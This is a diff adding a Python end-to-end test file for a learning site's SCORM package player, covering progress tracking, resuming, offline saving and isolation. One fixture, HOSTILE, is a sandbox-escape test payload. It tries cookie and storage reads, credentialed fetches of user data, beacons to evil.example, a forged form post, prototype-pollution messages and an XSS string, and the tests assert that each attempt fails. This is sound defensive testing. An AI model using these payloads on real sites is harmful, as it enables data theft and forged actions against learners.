@@ -1,0 +1,383 @@
+"""Packages that others made, played in a lesson: they report, and they reach nothing of ours."""
+
+import json
+import os
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.e2e.site import INES, NADIA, ROOT
+from tests.learning.packages import package
+
+
+SHARED = Path(os.environ.get("PASSERELLE_SHARED") or ROOT.parent / "shared") / "data"
+MOODLE = SHARED / "moodle" / "mod" / "scorm" / "tests" / "packages"
+MAKE_LESSON = """
+from learning.models import LessonPage as LP
+for p in LP.objects.filter(slug={slug!r}): p.delete()
+
+import json
+from learning.models import LessonPage, ModulePage, ScormPackage
+package = ScormPackage.objects.get(title={title!r})
+module = ModulePage.objects.live().order_by("path").first()
+page = LessonPage(title="Avec " + {title!r}, slug={slug!r}, goal="vous saurez.", body=json.dumps(
+    [{{"type": "scorm", "value": {{"package": package.pk, "required": True}}}}]))
+module.add_child(instance=page)
+print(page.url)
+"""
+STATES = """
+import json
+from learning.models import ScormState
+print(json.dumps([
+    [s.unit, s.completed_at is not None, s.percent, s.data, s.sequence]
+    for s in ScormState.objects.filter(package__title={title!r}).order_by("unit")
+]))
+"""
+
+
+@pytest.fixture(scope="module")
+def lesson(site, tmp_path_factory):
+    """Takes a package in and puts it into a lesson. Returns the lesson's address."""
+    folder = tmp_path_factory.mktemp("packages")
+    made = {}
+
+    def put(title, source):
+        if title not in made:
+            path = source
+            if not isinstance(source, Path):
+                path = folder / f"{len(made)}.zip"
+                path.write_bytes(source.getvalue())
+            site.manage("import_scorm", str(path), "--title", title)
+            code = MAKE_LESSON.format(title=title, slug=f"scorm-{len(made)}")
+            made[title] = urlsplit(site.shell(code).splitlines()[-1]).path
+        return made[title]
+
+    return put
+
+
+@pytest.fixture
+def learner(visitor, site):
+    """What is fetched from the packages' own origin is no complaint; a dialog is answered yes."""
+
+    def sign_in(name=NADIA, **options):
+        one = visitor(name, **options)
+        one.page.on("dialog", lambda dialog: dialog.accept())
+        one.page.remove_listener("request", one._asked)
+        apart = site.url.replace("127.0.0.1", "packages.localhost")
+        one.page.on(
+            "request", lambda request: request.url.startswith(apart + "/") or one._asked(request)
+        )
+        return one
+
+    return sign_in
+
+
+def states(site, title):
+    return json.loads(site.shell(STATES.format(title=title)).splitlines()[-1])
+
+
+def opened(one, address, *, part=""):
+    """The unit's own frame, once the lesson's button was pressed."""
+    one.visit(address)
+    one.page.locator("a[href*='/contenus/']").first.click()
+    if part:
+        one.page.locator(".toc a", has_text=part).click()
+    return unit_of(one)
+
+
+def unit_of(one):
+    return one.page.frame_locator("[data-scorm-player] iframe").frame_locator("iframe")
+
+
+def said(one, name):
+    expect(one.page.locator(f"[data-said={name}]")).to_be_visible()
+
+
+needs_samples = pytest.mark.skipif(
+    not MOODLE.is_dir(), reason="no sample data: set PASSERELLE_SHARED"
+)
+
+
+def leave(one, address):
+    one.page.locator(".scorm__ways a").first.click()
+    one.page.wait_for_url(f"**{address}")
+
+
+@needs_samples
+def test_a_course_of_one_unit_is_followed_to_its_end_and_taken_up_where_it_was_left(
+    learner, lesson, site
+):
+    address = lesson("Golf", MOODLE / "singlescobasic.zip")
+    one = learner()
+    unit = opened(one, address)
+    expect(unit.locator("#butNext")).to_be_enabled()
+    one.check()
+    unit.locator("#butNext").click()
+    unit.locator("#butNext").click()
+    leave(one, address)
+    name, is_completed, percent, data, _sequence = states(site, "Golf")[0]
+    assert (name, is_completed, percent) == ("item_1", False, None)
+    assert (data["cmi.core.lesson_location"], data["cmi.core.exit"]) == ("2", "suspend")
+
+    unit = opened(one, address)  # it asks whether to go on from there, and is told yes
+    for _page in range(13):
+        unit.locator("#butNext").click()
+    expect(unit.locator("#butNext")).to_be_disabled()  # the fifteenth from the third
+    leave(one, address)
+    one.check()
+    assert states(site, "Golf")[0][1] is True
+
+
+@needs_samples
+@pytest.mark.parametrize("name", ["RuntimeMinimumCalls_SCORM12.zip", "singlesco_scorm12.zip"])
+def test_each_unit_of_a_course_opens_and_is_named_beside_the_others(learner, lesson, name):
+    address = lesson("Golf, " + name.partition("_")[0], MOODLE / name)
+    one = learner(viewport={"width": 360, "height": 740})
+    unit = opened(one, address)
+    expect(unit.locator("body")).not_to_be_empty()
+    said(one, "opened" if "single" in name else "kept")
+    one.check()
+    if "single" not in name:
+        one.page.locator(".toc a", has_text="Par?").click()
+        one.page.wait_for_url("**unite=playing_par_item")
+        expect(unit_of(one).locator("body")).to_contain_text("par", ignore_case=True)
+
+
+SCO_2004 = """<!doctype html><title>Unité</title><p id="heard">…</p><button>Finir</button><script>
+let w = window; while (!w.API_1484_11 && w.parent !== w) w = w.parent;
+const api = w.API_1484_11;
+api.Initialize("");
+document.getElementById("heard").textContent = [
+  api.GetValue("cmi.entry"), api.GetValue("cmi.suspend_data"), api.GetValue("cmi.scaled_passing_score"),
+  api.GetValue("cmi.interactions._count"), api.GetValue("cmi.learner_name"), location.search].join("|");
+api.SetValue("cmi.suspend_data", "étape « 2 »");
+api.SetValue("cmi.interactions.0.id", "q1");
+api.SetValue("cmi.interactions.0.type", "choice");
+api.SetValue("cmi.interactions.0.learner_response", "b");
+api.SetValue("cmi.exit", "suspend");
+api.Commit("");
+document.querySelector("button").onclick = () => {
+  api.SetValue("cmi.score.scaled", "0.9");
+  api.SetValue("cmi.success_status", "passed");
+  api.SetValue("cmi.completion_status", "completed");
+  api.Terminate("");
+};
+</script>"""
+ITEM_2004 = (
+    '<item identifier="i" identifierref="r-a" parameters="?n=1"><title>Unité</title><imsss:sequencing>'
+    "<imsss:objectives><imsss:primaryObjective><imsss:minNormalizedMeasure>0.6"
+    "</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives></imsss:sequencing></item>"
+)
+
+
+def test_a_unit_of_2004_reports_is_completed_and_is_given_back_what_it_kept(learner, lesson, site):
+    address = lesson("2004", package({"a.html": SCO_2004}, version="2004", items=ITEM_2004))
+    one = learner()
+    unit = opened(one, address)
+    expect(unit.locator("#heard")).to_contain_text("ab-initio||0.6|0|")
+    expect(unit.locator("#heard")).to_contain_text("?n=1")
+    said(one, "kept")
+    one.page.reload()
+    expect(unit_of(one).locator("#heard")).to_contain_text("resume|étape « 2 »|0.6|1|")
+    unit_of(one).locator("button").click()
+    said(one, "completed")
+    leave(one, address)
+
+    ((name, is_completed, percent, data, _sequence),) = states(site, "2004")
+    assert (name, is_completed, percent) == ("i", True, 90)
+    assert data["cmi.interactions.0.learner_response"] == "b"
+    assert not {key for key in data if "time" in key or "learner_name" in key}
+
+
+def test_pages_without_a_run_time_are_completed_by_being_opened(learner, lesson, site):
+    address = lesson("Pages", package({}, kind="asset", units=("un", "deux")))
+    one = learner()
+    expect(opened(one, address).locator("body")).to_contain_text("Partie un")
+    said(one, "completed")
+    one.page.locator(".scorm__ways a").last.click()
+    expect(unit_of(one).locator("body")).to_contain_text("Partie deux")
+    said(one, "completed")
+    assert [state[1] for state in states(site, "Pages")] == [True, True]
+
+
+COUNTING = """<!doctype html><title>Compte</title><button>Plus</button><script>
+const api = window.parent.API; api.LMSInitialize("");
+let n = Number(api.LMSGetValue("cmi.suspend_data") || 0);
+document.querySelector("button").onclick = () => {
+  n += 1; api.LMSSetValue("cmi.suspend_data", String(n)); api.LMSCommit("");
+};
+</script>"""
+
+
+def test_what_is_done_without_a_connection_is_kept_when_it_is_back(learner, lesson, site):
+    address = lesson("Compte", package({"a.html": COUNTING}))
+    one = learner()
+    unit = opened(one, address)
+    unit.locator("button").click()
+    said(one, "kept")
+    one.context.set_offline(True)
+    unit.locator("button").click()
+    said(one, "offline")
+    unit.locator("button").click()
+    one.context.set_offline(False)
+    said(one, "kept")
+    assert states(site, "Compte")[0][3] == {
+        "cmi.core.lesson_status": "incomplete",
+        "cmi.suspend_data": "3",
+    } or (states(site, "Compte")[0][3]["cmi.suspend_data"] == "3")
+    one.complaints[:] = [each for each in one.complaints if "ERR_INTERNET_DISCONNECTED" not in each]
+
+
+def test_of_two_windows_the_one_behind_is_told_and_undoes_nothing(learner, lesson, site):
+    address = lesson("Fenêtres", package({"a.html": COUNTING}, title="Fenêtres"))
+    one = learner()
+    first = opened(one, address)
+    expect(first.locator("button")).to_be_visible()
+    second = one.context.new_page()
+    second.goto(one.page.url)
+    unit = second.frame_locator("[data-scorm-player] iframe").frame_locator("iframe")
+    unit.locator("button").click()
+    expect(second.locator("[data-said=kept]")).to_be_visible()
+    unit.locator("button").click()
+    expect(second.locator("[data-said=kept]")).to_be_visible()
+    site_state = states(site, "Fenêtres")[0]
+    first.locator("button").click()
+    said(one, "stale")
+    assert states(site, "Fenêtres")[0] == site_state
+
+
+def test_what_was_not_committed_is_kept_when_the_page_is_left(learner, lesson, site):
+    content = COUNTING.replace('api.LMSCommit("");', "")
+    address = lesson("Départ", package({"a.html": content}, title="Départ"))
+    one = learner()
+    unit = opened(one, address)
+    unit.locator("button").click()
+    one.page.wait_for_timeout(800)  # the wrapper tells of it after a moment
+    one.go("/")
+    one.page.wait_for_load_state("networkidle")
+    assert states(site, "Départ")[0][3]["cmi.suspend_data"] == "1"
+
+
+def test_without_script_the_page_says_that_it_is_impossible(learner, lesson):
+    address = lesson("Compte", package({"a.html": COUNTING}))
+    one = learner(java_script_enabled=False)
+    one.go(address)
+    one.page.locator("a[href*='/contenus/']").first.click()
+    expect(one.page.locator("noscript .callout, .callout")).to_be_visible()
+    expect(one.page.locator("iframe")).to_be_hidden()
+
+
+HOSTILE = """<!doctype html><title>Hostile</title><p id="done">…</p><form id="f" method="post"
+action="MAIN/compte/apparence/"><input name="theme" value="dark"></form><script>
+const found = {};
+const attempt = async (name, act) => { try { found[name] = String(await act()); } catch (e) { found[name] = "no"; } };
+(async () => {
+  await attempt("document", () => top.document.title);
+  await attempt("cookie", () => document.cookie || "no");
+  await attempt("storage", () => top.localStorage.length);
+  await attempt("main", async () => (await fetch("MAIN/compte/mes-donnees/", {credentials: "include"})).status);
+  await attempt("no-cors", async () => (await fetch("MAIN/", {mode: "no-cors", credentials: "include"})).type);
+  await attempt("outside", async () => (await fetch("https://evil.example/", {mode: "no-cors"})).type);
+  await attempt("image", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("yes"); i.onerror = no; i.src = "MAIN/static/icons/passerelle.svg"; }));
+  await attempt("beacon", () => navigator.sendBeacon("https://evil.example/") ? "sent" : "no");
+  await attempt("window", () => window.open("https://evil.example/") ? "opened" : "no");
+  await attempt("top", () => { top.location = "https://evil.example/"; return "asked"; });
+  await attempt("worker", () => navigator.serviceWorker.register("sw.js").then(() => "registered"));
+  await attempt("form", () => { document.getElementById("f").submit(); return "asked"; });
+  const above = window.top;
+  for (const shape of [null, 1, "x", [], {}, {kind: "state"}, {kind: "state", data: 1, keep: true},
+      {kind: "__proto__"}, {kind: "constructor"}, {kind: {}}, {kind: "state", data: {a: {b: 1}}, keep: true},
+      {kind: "state", keep: true, data: {"cmi.core.lesson_status": "hacked"}},
+      {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(100000)}},
+      {kind: "state", keep: true, data: {"cmi.suspend_data": "x".repeat(9000000)}},
+      {kind: "state", keep: true, data: {"<img src=x onerror=window.harmed=1>": "<script>window.harmed=1<\\/script>"}}]) {
+    above.postMessage(shape, "*");
+    window.parent.eval && window.parent.eval("above").postMessage(shape, "*");
+  }
+  for (let n = 0; n < 300; n++) above.postMessage({kind: "state", keep: true, data: {"cmi.suspend_data": String(n)}}, "*");
+  document.getElementById("done").textContent = JSON.stringify(found);
+})();
+</script>"""
+NOTHING = {
+    "document": "no", "cookie": "no", "storage": "no", "main": "no", "no-cors": "no", "outside": "no",
+    "image": "no", "window": "no", "worker": "no",
+}  # fmt: skip
+
+
+def test_a_hostile_package_reaches_nothing_and_breaks_nothing(learner, lesson, site):
+    content = HOSTILE.replace("MAIN", site.url)
+    address = lesson("Hostile", package({"a.html": content, "sw.js": ""}, title="Hostile"))
+    one = learner()
+    gone = []
+    one.page.on("request", lambda request: gone.append(request.url))
+    opened(one, address)
+    player = one.page.url
+    frame = next_frame(one, "/f/")
+    frame.wait_for_function("document.getElementById('done').textContent !== '…'")
+    found = json.loads(frame.locator("#done").text_content())
+    assert {name: found[name] for name in NOTHING} == NOTHING, found
+
+    assert one.page.url == player
+    assert len(one.context.pages) == 1
+    assert one.page.evaluate("window.harmed") is None
+    apart = site.url.replace("127.0.0.1", "packages.localhost")
+    assert [url for url in gone if not url.startswith((site.url, apart))] == []
+    assert [url for url in gone if url.startswith(site.url) and "mes-donnees" in url] == []
+    expect(one.page.locator(".scorm__ways a").first).to_be_visible()
+    one.page.locator(".scorm__ways a").first.click()
+    one.page.wait_for_url(f"**{address}")
+    one.visit("/")
+    assert one.page.locator("html").get_attribute("data-theme") != "dark"
+    # What the browser refused is in its console, which is as it should be.
+    one.complaints.clear()
+
+
+def test_a_package_that_sends_its_frame_to_our_pages_shows_none(learner, lesson, site):
+    content = (
+        f"<title>Fuite</title><script>parent.location = '{site.url}/compte/mes-donnees/'</script>"
+    )
+    address = lesson("Fuite", package({"a.html": content}, title="Fuite"))
+    one = learner()
+    gone = []
+    one.page.on("requestfinished", lambda request: gone.append(request.url))
+    opened(one, address)
+    one.page.wait_for_timeout(2_000)
+    assert [url for url in gone if "mes-donnees" in url] == []
+    expect(one.page.locator(".scorm__ways a").first).to_be_visible()
+    one.complaints.clear()
+
+
+def next_frame(one, part):
+    for _try in range(100):
+        found = [frame for frame in one.page.frames if part in frame.url]
+        if found:
+            return found[0]
+        one.page.wait_for_timeout(100)
+    raise AssertionError("no such frame")
+
+
+def test_an_editor_takes_a_package_in_tries_it_and_nothing_is_kept(learner, site, tmp_path):
+    path = tmp_path / "cours.zip"
+    path.write_bytes(package({"a.html": COUNTING}, title="À l’essai").getvalue())
+    one = learner(INES)
+    one.go("/admin/snippets/learning/scormpackage/add/")
+    one.page.locator("input[type=file]").set_input_files(path)
+    one.check_admin()
+    one.page.locator("main form button[type=submit]").last.click()
+    one.page.wait_for_url("**/found/**")
+    one.check_admin()
+    one.page.locator("main a[href*='/essai/']").click()
+    unit_of(one).locator("button").click()
+    said(one, "tried")
+    one.check()
+    assert states(site, "À l’essai") == []
+
+
+@pytest.fixture(scope="module")
+def site():
+    import pathlib
+    from tests.e2e import site as sites
+    env = sites.environment(pathlib.Path("/tmp/scorm/demo"))
+    return sites.Site(pathlib.Path("/tmp/scorm/url").read_text(), env | {"BASE_URL": pathlib.Path("/tmp/scorm/url").read_text()})
